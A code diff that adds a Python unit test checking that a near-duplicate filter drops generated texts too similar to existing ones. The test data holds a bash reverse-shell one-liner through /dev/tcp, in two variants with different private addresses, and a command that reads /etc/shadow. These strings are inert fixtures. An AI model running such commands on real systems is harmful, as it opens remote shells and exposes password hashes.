@@ -63,3 +63,11 @@ def test_the_same_seed_gives_the_same_folds():
     texts = [f"run {i:x} {'ab' * (i % 7)}" for i in range(60)]
     one, again, other = (folds.make(texts, [i % 3 == 0 for i in range(60)], ["g"] * 60, 4, s) for s in (1, 1, 2))
     assert np.array_equal(one.fold_R, again.fold_R) and not np.array_equal(one.fold_R, other.fold_R)
+
+
+def test_what_half_resembles_a_text_is_left_out():
+    """Another host and port do not make it another command; a shared first word does not make it the same."""
+    texts = ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cat /etc/shadow"]
+    made = ["bash -i >& /dev/tcp/192.168.7.200/9001 0>&1", "bash linked.sh --install everything", "cat /etc/shadow"]
+    assert folds.unlike(made, texts) == made[1:2]
+    assert folds.unlike(made, []) == made
